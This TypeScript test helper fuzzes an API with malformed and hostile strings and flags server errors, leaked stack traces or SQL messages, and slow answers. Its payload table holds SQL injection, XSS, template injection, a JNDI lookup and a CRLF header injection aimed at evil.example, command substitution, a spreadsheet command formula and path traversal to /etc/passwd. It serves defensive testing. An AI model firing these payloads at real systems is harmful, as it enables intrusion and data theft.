/** Traces of our own inside that no answer may hold. */
export const inside =
  /\bat [\w.<>]+ \(|node_modules|\.ts:\d|\.js:\d|amiable_(tenant|agency|worker|auditor|ledger)\b(?!=)|password authentication|ECONNREFUSED|SQLSTATE|syntax error at|invalid input syntax|invalid byte sequence|relation "|violates|QueryFailedError|EntityNotFound|select .{1,80} from |insert into|\[object Object\]/i;

const between = (from: number, to: number) => String.fromCodePoint(...Array.from({ length: to - from + 1 }, (_, i) => from + i));

/** Strings made to hurt: what they try is their first word. */
export const naughty: Readonly<Record<string, string>> = {
  nothing: '',
  blank: ' \t\n\r ',
  nul: 'a\u0000b',
  'nul alone': '\u0000',
  'control characters': between(1, 31),
  'c1 controls': between(0x80, 0x9f),
  'half of a pair': '\ud800',
  'other half': 'x\udfffy',
  'not a character': '\uffff\ufffe',
  bom: '\ufeffN° facture',
  'right to left': '\u202eelpmaxe\u202c مرحبا שלום',
  'bidi isolates': '\u2066\u2067\u2068abc\u2069\u200f\u200e',
  'zero width': 'a\u200bb\u200cc\u200dd\u2060e',
  'many marks': `Z${'\u0351\u0489'.repeat(200)}`,
  emoji: '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇫🇷💩',
  ligature: '\ufdfa\u0130\u0131ßſ',
  'full width': 'ｓｅｌｅｃｔ　＊',
  'line separators': 'a\u2028b\u2029c\u0085d\u000be',
  huge: 'é'.repeat(200_000),
  'long word': 'A'.repeat(20_000),
  'many lines': '\r\n'.repeat(5_000),
  'sql quote': `'; drop table cases; --`,
  'sql or': `' or '1'='1`,
  'sql sleep': `1); select pg_sleep(5); --`,
  'sql dollar': `$$ || $1 || $tag$`,
  'sql like': '%_\\%\\_\\',
  'sql escape': `E'\\x27'`,
  'liquid template': '{{ 7 | times: 7 }}{% include "x" %}',
  'handlebars template': '{{constructor.constructor("return process")()}}',
  'js template': '${7*7}`${process.env}`',
  'html script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'html break': `"></textarea></style></script><svg/onload=alert(1)>`,
  'mail header': 'a@b.example\r\nBcc: all@evil.example\r\n\r\nhello',
  'http header': 'x\r\nSet-Cookie: a=1\r\n',
  path: '../../../../etc/passwd',
  'windows path': '..\\..\\CON.csv',
  'file url': 'file:///etc/passwd',
  jndi: '${jndi:ldap://evil.example/a}',
  command: '$(touch /tmp/x); `id` | cat',
  formula: '=cmd|"/c calc"!A1',
  prototype: '__proto__',
  constructor: 'constructor',
  'json breaker': '"}],"x":{"y":[',
  'number nan': 'NaN',
  'number infinite': '1e999',
  'number huge': '99999999999999999999999999.99',
  'number of minor units beyond bigint': '92233720368547758.08',
  'number precise': '0.000000000000000001',
  'number negative': '-1.00',
  'number comma': '1.234,56',
  'number hex': '0x1F',
  'day that is none': '2026-02-30',
  'day far away': '9999-12-31',
  'day long ago': '0000-01-01',
  'day with time': '2026-11-02T25:61:61Z',
  uuid: '00000000-0000-0000-0000-000000000000',
  'cursor of text': Buffer.from('["x","y"]').toString('base64url'),
  'cursor of nulls': Buffer.from('[null,null]').toString('base64url'),
  'cursor of numbers': Buffer.from('[1e308,-1]').toString('base64url'),
  'cursor of a day and rubbish': Buffer.from('["2026-11-02","rubbish"]').toString('base64url'),
  'cursor of an impossible day': Buffer.from('["2026-02-31","0199aa00-0000-7000-8000-000000000000"]').toString('base64url'),
  'cursor of nul': Buffer.from('["2026-11-02","\\u0000"]').toString('base64url'),
};

export interface Attempt {
  readonly name: string;
  readonly send: () => Promise<{ status: number; text: string }>;
}

/** Sends many, eight at a time; answers what was wrong with the answers: faults of ours, traces of our inside, waiting. */
export async function faultsOf(attempts: readonly Attempt[]): Promise<string[]> {
  const faults: string[] = [];
  const waiting = [...attempts];
  const hand = async (): Promise<void> => {
    for (let one = waiting.pop(); one; one = waiting.pop()) {
      const begun = performance.now();
      const { status, text } = await one.send();
      const trace = inside.exec(text)?.[0];
      if (status >= 500) faults.push(`${one.name}: ${status}`);
      if (text.includes('INTERNAL')) faults.push(`${one.name}: a fault of ours`);
      if (trace) faults.push(`${one.name}: tells ${trace}`);
      if (performance.now() - begun > 10_000) faults.push(`${one.name}: took ${Math.round(performance.now() - begun)} ms`);
    }
  };
  await Promise.all(Array.from({ length: 8 }, hand));
  return [...new Set(faults)].sort();
}

/** A generator with a seed (mulberry32), so that a failing run can be run again. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}
